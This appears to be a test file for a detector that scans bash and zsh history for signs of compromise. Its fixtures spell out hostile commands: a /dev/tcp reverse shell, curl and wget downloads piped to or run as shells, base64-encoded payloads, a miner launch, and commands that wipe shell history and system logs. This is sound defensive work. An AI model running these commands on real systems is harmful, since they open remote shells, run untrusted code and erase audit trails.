import { describe, expect, it } from 'vitest';
import { historySignals, parseHistory } from './history.ts';

const P = '/root/.bash_history';
const kinds = (text: string) =>
  historySignals(parseHistory(text), P, 'root').map((h) => [h.kind, h.where.line]);

describe('parseHistory', () => {
  it('reads bash timestamps and zsh extended history, joining zsh continuation lines', () => {
    expect(parseHistory('#1780000000\nls -l\npwd\n')).toEqual([
      { line: 2, command: 'ls -l', epoch: 1_780_000_000 },
      { line: 3, command: 'pwd' },
    ]);
    expect(parseHistory(': 1780000000:0;echo a\\\necho b\n: 1780000005:2;id\n')).toEqual([
      { line: 1, command: 'echo a\necho b', epoch: 1_780_000_000 },
      { line: 3, command: 'id', epoch: 1_780_000_005 },
    ]);
  });
});

describe('historySignals', () => {
  it.each<[string, [string, number][]]>([
    ['curl -fsSL http://203.0.113.9/x.sh | bash', [['download-exec', 1]]],
    [
      'cd /tmp\nwget http://203.0.113.9/kworker\nchmod +x kworker\n./kworker -o pool:3333',
      [
        ['chmod-temp', 3],
        ['download-exec', 4],
        ['temp-exec', 4],
      ],
    ],
    ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', [['reverse-shell', 1]]],
    ['echo aWQgLWE= | base64 -d | sh', [['encoded-payload', 1]]],
    // the decoded payload itself downloads and runs code (the persistence classifier looks inside)
    [
      'echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveHxzaA== | base64 -d | sh',
      [
        ['download-exec', 1],
        ['encoded-payload', 1],
      ],
    ],
    ['history -c', [['history-wiping', 1]]],
    ['unset HISTFILE', [['history-wiping', 1]]],
    ['export HISTFILE=/dev/null', [['history-wiping', 1]]],
    ['HISTSIZE=0', [['history-wiping', 1]]],
    ['ln -sf /dev/null ~/.bash_history', [['history-wiping', 1]]],
    ['cat /dev/null > ~/.bash_history', [['history-wiping', 1]]],
    ['rm -f /root/.bash_history', [['history-wiping', 1]]],
    ['echo > /var/log/wtmp', [['log-wiping', 1]]],
    ['rm -rf /var/log/*', [['log-wiping', 1]]],
    ['shred -u /var/log/auth.log', [['log-wiping', 1]]],
    ['chmod 755 /dev/shm/.x', [['chmod-temp', 1]]],
    ['chmod u+x /var/tmp/run.sh', [['chmod-temp', 1]]],
    // controls
    ['apt-get update && apt-get upgrade -y', []],
    ['curl -o /tmp/report.pdf https://example.com/report.pdf', []],
    ['wget https://example.com/app.tar.gz\ntar xzf app.tar.gz\nls', []],
    ['chmod 644 /tmp/notes.txt', []],
    ['chmod +x /usr/local/bin/tool', []],
    ['history | grep ssh', []],
    ['rm /var/log/nginx/access.log.9.gz', []],
    ['export HISTSIZE=10000', []],
    ['cd /tmp\nls\nchmod -x x.sh', []],
  ])('%j', (text, want) => {
    expect(kinds(text)).toEqual(want);
  });

  it('links a download to the line that runs it, with the time when recorded', () => {
    const hits = historySignals(
      parseHistory('#1780000000\nwget http://203.0.113.9/a -O /tmp/a\nls\n#1780000060\nsh /tmp/a\n'),
      P,
      'root',
    );
    const dl = hits.find((h) => h.kind === 'download-exec')!;
    expect(dl).toMatchObject({
      user: 'root',
      where: { path: P, line: 5 },
      from: { path: P, line: 2 },
      time: '2026-05-28T20:27:40.000Z',
      command: 'sh /tmp/a',
    });
  });

  it('bounds the hits of a huge history', () => {
    const text = Array.from({ length: 5000 }, () => 'history -c').join('\n');
    expect(historySignals(parseHistory(text), P, 'root')).toHaveLength(200);
  });
});
